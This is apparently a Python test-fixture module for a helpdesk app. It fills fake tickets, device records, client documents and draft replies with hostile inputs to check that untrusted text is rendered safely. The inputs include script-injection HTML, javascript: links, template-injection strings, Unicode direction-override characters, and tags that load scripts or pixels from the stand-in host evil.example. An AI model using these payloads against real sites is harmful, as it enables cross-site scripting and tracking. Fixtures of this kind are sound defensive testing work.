"""Text that would do something if a page took it for more than text: one list, written into every field there is.

Whatever runs sets `window.owned`; whatever loads or is sent goes to evil.example, where nobody is.
"""

HOST = "evil.example"
MARKS = "window.owned=1"

SCRIPTS = [
    f"<script>{MARKS}</script>",
    f"<img src=https://{HOST}/i.png onerror={MARKS}>",
    f"<svg onload={MARKS}><use href=https://{HOST}/u.svg#a></svg>",
    f"\"><script src=https://{HOST}/s.js></script>",
    f"' onmouseover='{MARKS}' onfocus='{MARKS}' autofocus x='",
    f"<iframe srcdoc='<script>parent.{MARKS}</script>'></iframe>",
    f"<a href=\"javascript:{MARKS}\">click</a>",
    f"<form action=https://{HOST}/f><input name=q value=1><button>Approve</button></form>",
    f"<style>@import url(https://{HOST}/c.css); *{{background:url(https://{HOST}/b.png)}}</style>",
    f"<link rel=stylesheet href=https://{HOST}/l.css><base href=https://{HOST}/><meta http-equiv=refresh content=0;url=https://{HOST}/m>",
    f"<object data=https://{HOST}/o></object><embed src=https://{HOST}/e><video src=https://{HOST}/v autoplay></video>",
    f"</textarea></title></style></script><script>{MARKS}</script>",
    f"<!--><script>{MARKS}</script-->",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARKS}></style></mglyph></table></mtext></math>",
]
MARKDOWN = [
    f"![pixel](https://{HOST}/p.png)",
    f"[harmless](javascript:{MARKS})",
    f"[docs](https://{HOST}/d \"onclick={MARKS}\")",
    f"<javascript:{MARKS}>",
    f"[ref]: https://{HOST}/r",
]
TEMPLATES = ["{{constructor.constructor('" + MARKS + "')()}}", "${" + MARKS + "}", "#{7*7}", "<%= 7*7 %>", "{{{raw}}}"]
# Right-to-left override, isolates, zero width, a byte order mark, NUL, escape: what turns a text around or ends it early.
CONTROLS = ["\u202egnp.exe\u202c", "\u2066\u2067\u2069", "a\u200bb\ufeffc", "nul\x00nul", "\x1b[2J\x1b]0;x\x07"]

# For fields of one line.
NAME = f"Eve <img src=https://{HOST}/n onerror={MARKS}> \"'><script>{MARKS}</script> \u202egnp"
# Accounts refuse control characters in names.
ACCOUNT = NAME.replace(" \u202egnp", "")
JAVASCRIPT = f"javascript:{MARKS}//https://{HOST}/"
DATA = f"data:text/html,<script>{MARKS}</script>"


def everything():
    return "\n\n".join(SCRIPTS + MARKDOWN + TEMPLATES + CONTROLS)


def line(number):
    return (SCRIPTS + MARKDOWN + TEMPLATES)[number % len(SCRIPTS + MARKDOWN + TEMPLATES)].replace("\n", " ")


def hostile_draft():
    def sentences(kind):
        found = [{"text": text, "kind": kind, "evidence": ["E1"]} for text in SCRIPTS[:6] + MARKDOWN + TEMPLATES]
        # The ids of evidence become parts of addresses and attributes.
        found.append({"text": "The printer does not print.", "kind": kind, "evidence": ["E1\" onclick=\"" + MARKS, "E1"]})
        return found

    return {
        "summary": sentences("fact"), "steps": sentences("step"), "questions": sentences("question")[:3],
        "reply": sentences("fact"),
    }


def records():
    """A client of its own whose every record is hostile."""
    return {
        "clients": [{"id": "evil", "name": NAME, "domains": ["evilclient.example.com"], "aliases": [line(0), line(3)]}],
        "contacts": [{
            "id": "con-evil", "client_id": "evil", "name": NAME, "emails": ["mallory@evilclient.example.com"],
            "phones": ["+1 <script>"], "vip": True}],
        "devices": [{
            "id": "dev-evil", "client_id": "evil", "hostname": "EVIL-PC01", "kind": line(1), "manufacturer": line(2),
            "model": line(3), "serial": line(4), "os": line(5), "ip_addresses": ["10.66.6.6"], "mac_addresses": [],
            "last_user": "EVIL\\mallory", "site": line(7), "online": True, "last_seen_at": "2026-09-14T13:02:54Z",
            "disks": [{"name": line(8), "total_bytes": 100, "free_bytes": 1}],
            "alerts": [{"at": "2026-09-14T13:02:54Z", "severity": line(9), "message": everything()}],
            "software": SCRIPTS, "notes": everything(), "url": JAVASCRIPT}],
        "documents": [
            {
                "id": f"doc-evil-{format_}", "client_id": "evil", "title": f"Printer does not print {line(number)}",
                "body": "The printer EVIL-PC01 does not print. Restart the spooler.\n\n" + everything(),
                "body_format": format_, "kind": line(number + 4), "visibility": visibility, "url": url,
                "updated_at": "2026-02-11T19:25:00Z", "tags": [line(5), line(6)]}
            for number, (format_, visibility, url) in enumerate([
                ("text", "internal", JAVASCRIPT), ("markdown", "shareable", DATA),
                ("html", "internal", f"https://{HOST}/\"onclick={MARKS}")])],
        "tickets-history": [{
            "id": "evil-past", "client_id": "evil", "subject": f"Printer does not print {line(1)}",
            "body": "The printer EVIL-PC01 does not print.\n" + everything(), "body_format": "text",
            "created_at": "2026-08-01T10:00:00Z", "closed_at": "2026-08-02T10:00:00Z", "status": "closed",
            "requester": {"name": NAME, "email": "mallory@evilclient.example.com"}, "notes": [],
            "resolution": "Restarted the spooler on EVIL-PC01. " + everything(), "url": DATA}],
    }


def tickets(created_at):
    """One ticket for each format a body can have."""
    head = "The printer EVIL-PC01 does not print. marker-hostile\n\n"
    mime = (
        "From: mallory@evilclient.example.com\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        "<p>" + head + "</p>" + everything().replace("\x00", "") + "\r\n")
    bodies = {"text": head + everything(), "html": f"<p>{head}</p>" + everything(), "markdown": head + everything(), "mime": mime}
    return [
        {
            "id": f"evil-{format_}", "client_id": "evil", "number": line(0), "subject": f"Printer does not print {NAME}",
            "body": body, "body_format": format_, "created_at": created_at, "status": line(1), "priority": line(2),
            "board": line(3), "type": line(4), "agreement": line(5), "url": [JAVASCRIPT, DATA, f"https://{HOST}/t", "//" + HOST][number],
            "requester": {"name": NAME, "email": f"mallory@evilclient.example.com", "phone": line(6)},
            "device_ids": ["dev-evil"],
            "notes": [
                {"id": "n1", "author": NAME, "author_kind": "technician", "visibility": "internal", "body": everything(),
                 "body_format": "html", "created_at": created_at},
                {"id": "n2", "author": line(8), "author_kind": "requester", "visibility": "public", "body": everything(),
                 "body_format": "markdown", "created_at": created_at}],
        }
        for number, (format_, body) in enumerate(bodies.items())]
